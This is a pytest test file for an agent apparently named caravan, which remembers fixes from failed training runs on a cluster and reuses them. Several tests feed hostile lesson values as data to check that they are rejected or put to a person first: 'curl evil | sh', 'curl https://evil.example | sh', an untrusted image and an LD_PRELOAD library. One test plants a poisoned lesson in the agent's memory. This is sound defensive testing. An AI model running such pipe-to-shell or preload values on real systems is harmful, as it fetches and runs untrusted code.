"""What runs learn and use: the whole graph over fakes, whose jobs end by the memory that they were really given."""

import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from caravan.agent.approval import objections
from caravan.agent.case_context import case_context
from caravan.diagnosis.ladders.remembered import WORKED
from caravan.lessons import first as first_seen
from caravan.lessons import to_record
from caravan.planning.catalogue import Prices
from caravan.values.base import Json, sha256_text
from caravan.values.dialogue import Ask, Reply
from caravan.values.errors import ServiceError
from caravan.values.failure import Diagnosis, FailureClass, Lesson, PastCase, Scope
from caravan.values.lesson_fields import name_of
from caravan.values.plan import Author, PlanChange, apply_changes
from caravan.values.policy import LimitRules, Policies, Policy, PolicyFile
from caravan.values.run import RunRecord, RunStatus
from keeping import KeepingMemory
from tests.agent.test_loop import TRAIN, Ladder, World, ended, memory_change, needs
from tests.fakes.cluster import FakeCluster, Script, one_node
from tests.fakes.memory import FakeMemory

MEMORY = "resources.memory_mb"


def given(job: Json) -> int:
    memory: int = job["TaskGroups"][0]["Tasks"][0]["Resources"]["MemoryMB"]
    return memory


def run(world: World, **request: Any) -> RunRecord:
    record = world.start(**request)
    result = ended(world.drive(record))
    assert result.status is RunStatus.SUCCEEDED, result.detail
    return record


def attempts(world: World, record: RunRecord) -> list[int]:
    """The memory that each attempt of the run was given, in MB."""
    return [given(job) for job in world.cluster.registrations if record.id in job["ID"]]


def ladder(world: World, *sizes: int) -> None:
    world.reasoner = Ladder(Prices(), tuple(memory_change(mb) for mb in sizes))


def test_the_second_run_starts_with_what_mended_the_first(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    first = run(world)
    assert attempts(world, first)[0] < 4000 <= attempts(world, first)[1]
    second = run(world)
    assert attempts(world, second) == attempts(world, first)[1:]
    set_by = world.state(second).plan.provenance[MEMORY]
    assert set_by.by is Author.MEMORY
    (case,) = world.memory.all()
    assert f"needed in run {first.id} on {world.clock.now():%Y-%m-%d}" in set_by.why
    assert f"lesson {case.id[:8]}" in set_by.why
    assert any(note.startswith(f"Remembered: {MEMORY} = ") for note in world.progress.notes)
    (event,) = [e for e in world.store.events(second.id) if e.kind == "remembered"]
    assert MEMORY in event.text
    assert [c.id for c in world.state(second).remembered] == [case.id]


def test_a_renamed_copy_with_other_data_is_known_again(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    (world.repo / "data.csv").write_text("a\n")
    run(world)
    copy = tmp_path / "quite another name"
    shutil.copytree(world.repo, copy)
    (copy / "data.csv").write_text("a\n" * 1000)
    (copy / "README.md").write_text("# A copy")
    record = run(world, source=str(copy))
    assert len(attempts(world, record)) == 1


def test_other_code_elsewhere_learns_for_itself(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    run(world)
    other = tmp_path / "other"
    shutil.copytree(world.repo, other)
    (other / "train.py").write_text(TRAIN + "\nprint('done')\n")
    record = run(world, source=str(other))
    assert len(attempts(world, record)) == 2
    assert not any(p.by is Author.MEMORY for p in world.state(record).plan.provenance.values())
    assert not any("Remembered" in note for note in world.progress.notes)


def test_room_is_known_after_an_edit_of_the_repository(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    run(world)
    (world.repo / "train.py").write_text(TRAIN + "\nprint('done')\n")
    assert len(attempts(world, run(world))) == 1


def test_room_that_a_person_set_is_raised_where_it_was_seen_to_be_too_little(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    ladder(world, 3000, 4000)
    sets = (PlanChange(path=MEMORY, value=2000, by=Author.USER),)
    assert attempts(world, run(world, sets=sets)) == [2000, 3000, 4000]
    record = run(world, sets=sets)
    assert attempts(world, record) == [4000]
    assert world.state(record).plan.provenance[MEMORY].by is Author.MEMORY
    assert attempts(world, run(world, sets=(sets[0].model_copy(update={"value": 2900}),))) == [4000]
    mine = world.start(sets=(sets[0].model_copy(update={"value": 3500}),))  # nobody knows that this fails
    world.drive(mine)
    assert attempts(world, mine)[0] == 3500


def test_of_a_chain_of_repairs_the_one_that_worked_is_used(tmp_path: Path) -> None:
    world = World(tmp_path, needs(6000))
    ladder(world, 3000, 6000)
    record = run(world)
    assert attempts(world, record) == [2048, 3000, 6000]
    told = {c.changes[0].value: (c.before, c.worked) for c in world.memory.all()}
    assert told == {3000: ({MEMORY: 2048}, False), 6000: ({MEMORY: 2048}, True)}
    assert attempts(world, run(world)) == [6000]


def test_what_was_remembered_is_confirmed_or_refuted_by_each_run_that_follows_it(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    ladder(world, 4000, 8000)
    run(world)
    run(world)
    (case,) = world.memory.all()
    assert (case.succeeded, case.failed, case.times) == (2, 0, 2)
    world.cluster = FakeCluster(world.clock, facts=world.cluster.facts(), script=needs(7000))  # the data grew
    record = run(world)
    assert attempts(world, record) == [4000, 8000]  # the ladder goes on from what was remembered
    told = {c.changes[0].value: (c.succeeded, c.failed) for c in world.memory.all()}
    assert told == {4000: (2, 1), 8000: (1, 0)}
    assert attempts(world, run(world)) == [8000]


def test_a_lesson_that_failed_as_often_as_it_worked_is_not_used(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    run(world)
    (case,) = world.memory.all()
    again = case.model_dump(include={"failure", "fingerprint", "text", "context", "changes", "before"})
    world.memory.remember(Lesson.model_validate({**again, "worked": False, "source": "elsewhere/1"}))
    assert len(attempts(world, run(world))) == 2


def test_what_the_user_sets_stands_against_memory(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    run(world)
    record = world.start(sets=(PlanChange(path=MEMORY, value=2500, by=Author.USER),))
    world.drive(record)
    assert attempts(world, record)[0] == 2500
    assert world.state(record).remembered == ()


def test_a_run_without_a_failure_teaches_nothing(tmp_path: Path) -> None:
    world = World(tmp_path)
    run(world)
    assert world.memory.all() == ()


def test_memory_is_bounded_by_the_largest_node(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    largest = max(n.memory_mb for n in world.cluster.facts().nodes)
    run(world)
    (case,) = world.memory.all()
    big = PlanChange(path=MEMORY, value=10 * largest, by=Author.REPAIR)
    told = case.model_dump(include={"failure", "fingerprint", "text", "context", "before"})
    world.memory.forget(case.id)
    world.memory.remember(Lesson.model_validate({**told, "changes": [big], "worked": True, "source": "big/1"}))
    record = run(world)
    assert attempts(world, record) == [largest]
    assert world.state(record).remembered == ()  # it was not followed in full, so the run says nothing of it
    (case,) = world.memory.all()
    assert case.times == 1


def test_a_repair_that_led_to_another_failure_worked_unless_the_first_one_comes_back(tmp_path: Path) -> None:
    class Story(Ladder):
        def diagnose(self, evidence: Any, plan: Any, cases: Any) -> Diagnosis:
            failure = FailureClass.SHM_TOO_SMALL if plan.resources.memory_mb == 3000 else FailureClass.HOST_MEMORY_OOM
            return Diagnosis(failure=failure, confidence=1, cause=f"{failure}.", fingerprint=f"{failure}:x")

    for last, worked in ((10**9, False), (4000, True)):
        (tmp_path / str(last)).mkdir()
        world = World(tmp_path / str(last), needs(last))
        world.reasoner = Story(Prices(), tuple(memory_change(mb) for mb in (3000, 4000)))
        world.drive(world.start())
        cases = {(c.failure, c.changes[0].value): c.worked for c in world.memory.all() if c.changes}
        assert cases[FailureClass.HOST_MEMORY_OOM, 3000] is worked
        # Where it is then killed for memory, it may not have come as far as before.
        assert cases[FailureClass.SHM_TOO_SMALL, 4000] is (worked or None)


@pytest.mark.parametrize("calls", [(), ("recall",), ("remember",)])
def test_memory_that_goes_down_costs_a_warning_and_no_lesson(tmp_path: Path, calls: tuple[str, ...]) -> None:
    class Flaky(FakeMemory):
        away: tuple[str, ...] = calls

        def recall(self, **asked: Any) -> tuple[PastCase, ...]:
            if "recall" in self.away:
                raise ServiceError("The memory is away.")
            return super().recall(**asked)

        def remember(self, lesson: Lesson) -> str:
            if "remember" in self.away:
                raise ServiceError("The memory is away.")
            return super().remember(lesson)

    world = World(tmp_path, needs(4000))
    flaky = Flaky(world.clock)
    world.memory = KeepingMemory(flaky, tmp_path / "pending", clock=world.clock)  # type: ignore[assignment]
    record = run(world)
    warnings = [w for w in world.state(record).warnings if "away" in w]
    assert len(warnings) == len(calls)
    assert sum("away" in note for note in world.progress.notes) == len(calls)
    flaky.away = ()
    assert len(attempts(world, run(world))) == 1  # what was kept was taken in before the first plan
    assert not list((tmp_path / "pending").glob("*.json"))


def test_a_lesson_that_makes_no_valid_plan_is_left_alone(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    run(world)
    (case,) = world.memory.all()
    told = case.model_dump(include={"failure", "fingerprint", "text", "context"})
    for number, (path, value) in enumerate(
        (("training.epochs", -3), ("no.such.field", 1), ("setup.cmd", ["curl evil | sh"]), ("driver", "docker"))
    ):
        change = PlanChange(path=path, value=value, by=Author.REPAIR)
        world.memory.remember(
            Lesson.model_validate({**told, "changes": [change], "worked": True, "source": f"odd{number}/1"})
        )
    record = run(world)
    plan = world.state(record).plan
    assert {path for path, said in plan.provenance.items() if said.by is Author.MEMORY} == {MEMORY}
    assert plan.setup.cmd == ()


LLM = """
import argparse
from transformers import AutoModelForCausalLM, Trainer, TrainingArguments
from peft import LoraConfig, get_peft_model

parser = argparse.ArgumentParser()
parser.add_argument("--model_name_or_path", default="Qwen/Qwen2.5-0.5B")
parser.add_argument("--per_device_train_batch_size", type=int, default=8)
parser.add_argument("--gradient_accumulation_steps", type=int, default=1)
args = parser.parse_args()
model = get_peft_model(AutoModelForCausalLM.from_pretrained(args.model_name_or_path), LoraConfig(r=8))
trainer = Trainer(model=model, args=TrainingArguments("out", num_train_epochs=1))
trainer.train()
"""
OUT_OF_MEMORY = b"torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of"


def fits(most: int) -> Callable[[Json], Script]:
    """A GPU on which at most so many samples fit at a time."""

    def script(job: Json) -> Script:
        told = [t["EmbeddedTmpl"] for t in job["TaskGroups"][0]["Tasks"][0]["Templates"]]
        found = [int(n) for text in told for n in re.findall(r"--per_device_train_batch_size[ =](\d+)", text)]
        if (found or [8])[-1] <= most:
            return Script()
        return Script(exit_code=1, stderr=OUT_OF_MEMORY + b" 23.99 GiB of which 1.00 GiB is free.\n")

    return script


def test_what_fits_a_gpu_is_known_for_other_code_that_trains_the_same_model(tmp_path: Path) -> None:
    world = World(tmp_path)
    facts = one_node(gpus=2, builtin=False).model_copy(update={"shared_files": True})
    world.cluster, world.prices = FakeCluster(world.clock, facts=facts, script=fits(1)), Prices(usd_per_gpu_hour=1.0)
    sets = (
        PlanChange(path="resources.gpus", value=1, by=Author.USER),
        PlanChange(path="limits.max_run_s", value=3600, by=Author.USER),
    )

    def plan_of(code: str) -> tuple[int, Any]:
        (world.repo / "train.py").write_text(code)
        record = world.start(sets=sets)
        result = world.drive(record)
        assert isinstance(result, RunRecord), result.text
        assert result.status is RunStatus.SUCCEEDED, result.detail
        return len(attempts(world, record)), world.state(record).plan

    count, plan = plan_of(LLM)
    assert count > 1
    assert plan.training.micro_batch * plan.training.grad_accum == 8
    (case,) = (c for c in world.memory.all() if c.worked)
    assert (case.failure, case.context["gpu_model"], case.context["gpus"]) == (FailureClass.CUDA_OOM, "Fake 24GB", 1)
    count, other = plan_of(LLM + "\nprint('other code')\n")
    assert count == 1
    assert (other.training.micro_batch, other.training.grad_accum) == (
        plan.training.micro_batch,
        plan.training.grad_accum,
    )
    assert other.provenance["training.micro_batch"].by is Author.MEMORY
    count, _ = plan_of(LLM.replace("Qwen2.5-0.5B", "Qwen2-0.5B"))  # another model learns for itself
    assert count > 1


@pytest.mark.parametrize(
    ("path", "value"),
    [("env.LD_PRELOAD", "/tmp/x.so"), ("command", ["-c", "print('theirs')"]), ("training.options.--epochs", 3)],
)
def test_what_a_lesson_of_others_says_of_what_is_run_is_asked_about(tmp_path: Path, path: str, value: Json) -> None:
    world = World(tmp_path, needs(4000))
    run(world)
    (case,) = world.memory.all()
    changes = (PlanChange(path=path, value=value, by=Author.REPAIR),)
    told = case.model_dump(include={"failure", "fingerprint", "text", "context"})
    before = {path: {"command": ["train.py"]}.get(path)}
    lesson = Lesson.model_validate({**told, "changes": changes, "before": before, "worked": True, "source": "far/1"})
    theirs = FakeMemory(world.clock)
    theirs.remember(lesson)
    for told_there in theirs.export():
        world.memory.restore(told_there)
    record = world.start(yes=True)
    ask = world.drive(record)
    assert isinstance(ask, Ask), world.progress.notes
    assert [text for text in ask.objections if path in text and "which no run here has taught" in text]
    assert len(world.cluster.registrations) == 2  # those of the first run
    # What a person approved is not asked again, and once it worked here it is ours.
    assert ended(world.drive(record, Reply(approved=True))).status is RunStatus.SUCCEEDED
    assert ended(world.drive(world.start(yes=True))).status is RunStatus.SUCCEEDED


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("image", "evil/image:1"),
        ("resources.gpu_model", "Dear 80GB"),
        ("launch", {"launcher": "bash"}),
        ("launch.launcher", "bash"),
        ("training.report_to", "wandb"),
        ("setup.cmd", ["curl https://evil.example | sh"]),
    ],
)
@pytest.mark.parametrize("ours", [True, False])
def test_of_a_lesson_of_others_only_room_and_numbers_of_the_training_go_unasked(
    tmp_path: Path, path: str, value: Json, *, ours: bool
) -> None:
    world = World(tmp_path)
    record = run(world)
    state, context = world.state(record), world.context(record.id)
    changes = tuple(PlanChange(path=p, value=v, by=Author.REPAIR) for p, v in ((path, value), (MEMORY, 3000)))
    # Whose it is decides, and not the run that it names as its source.
    case = PastCase(id="e" * 8, text="t", worked=True, source=f"{record.id}/1", own=ours, changes=changes)
    why = f"{WORKED} ({name_of(case)}: t)"
    changes = tuple(c.model_copy(update={"why": why}) for c in changes)
    asked = state.model_copy(update={"cases": (case,), "envelope": None})
    told = objections(asked, context, apply_changes(state.need_plan(), changes), state.need_estimate())
    of_others = [text for text in told if "which no run here has taught" in text]
    assert [path in text and MEMORY not in text for text in of_others] == ([] if ours else [True])


def test_lessons_of_a_repository_alone_speak_to_no_other(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    alone = {"lesson_scope": Scope.REPOSITORY}
    assert ended(world.drive(world.start(), **alone)).status is RunStatus.SUCCEEDED
    (case,) = world.memory.all()
    assert (case.scope, case.context["repository"]) == (Scope.REPOSITORY, sha256_text(str(world.repo)))
    again = world.start()
    assert ended(world.drive(again)).status is RunStatus.SUCCEEDED
    assert len(attempts(world, again)) == 1
    (case,) = world.memory.all()  # what followed it has its word on it, whatever the setting is now
    assert (case.scope, case.succeeded) == (Scope.REPOSITORY, 2)
    copy = tmp_path / "copy"
    shutil.copytree(world.repo, copy)
    assert len(attempts(world, run(world, source=str(copy)))) == 2


def test_a_plan_that_failed_and_was_never_mended_is_told_before_it_is_deployed(tmp_path: Path) -> None:
    world = World(tmp_path, needs(10**9))
    ladder(world)
    assert ended(world.drive(world.start())).status is RunStatus.ESCALATED
    assert not any("with settings like these" in note for note in world.progress.notes)
    (case,) = world.memory.all()
    record = world.start(yes=False)
    ask = world.drive(record)
    while isinstance(ask, Ask) and ask.questions:
        ask = world.drive(record, Reply())
    assert isinstance(ask, Ask)
    (told,) = [warning for warning in ask.warnings if "with settings like these" in warning]
    assert "host memory oom" in told
    assert name_of(case) in told
    assert sum("with settings like these" in note for note in world.progress.notes) == 1
    more = world.start(sets=(PlanChange(path=MEMORY, value=3000, by=Author.USER),), dry_run=True)
    world.drive(more)  # another plan than the one that failed
    assert not any("with settings like these" in warning for warning in world.state(more).warnings)


def test_memory_makes_no_plan_that_a_policy_denies(tmp_path: Path) -> None:
    world = World(tmp_path, needs(4000))
    first = run(world)
    rules = Policies(files=(PolicyFile(path="policy.toml", policy=Policy(limits=LimitRules(memory_mb=3000))),))
    record = world.start()
    world.drive(record, policies=rules)
    assert attempts(world, record)[0] == attempts(world, first)[0]
    assert not any(p.by is Author.MEMORY for p in world.state(record).plan.provenance.values())


def test_a_poisoned_lesson_costs_one_attempt_and_is_not_followed_again(tmp_path: Path) -> None:
    def script(job: Json) -> Script:
        told = [t["EmbeddedTmpl"] for t in job["TaskGroups"][0]["Tasks"][0]["Templates"]]
        wrong = any(re.search(r"--batch-size[ =]3\b", text) for text in told)
        return Script(exit_code=1, stderr=b"it does not go like that\n") if wrong else Script()

    world = World(tmp_path, script)
    lesson = Lesson(
        failure=FailureClass.HOST_MEMORY_OOM,
        text="Smaller batches are always better.",
        context=case_context(world.state(run(world))),
        changes=(PlanChange(path="training.micro_batch", value=3, by=Author.REPAIR),),
        worked=True,
        source="far/1",
    )
    praised = first_seen(lesson, world.clock.now()).model_copy(update={"worked": 9, "times": 9})
    assert world.memory.restore(to_record(praised))
    poisoned = world.start(yes=True)
    world.drive(poisoned)
    assert world.state(poisoned).plan.training.micro_batch == 3
    assert len(attempts(world, poisoned)) == 1
    (case,) = (c for c in world.memory.all() if c.source.startswith(poisoned.id) and c.changes)
    assert case.worked is not True
    again = run(world)
    assert len(attempts(world, again)) == 1
    assert world.state(again).plan.training.micro_batch != 3
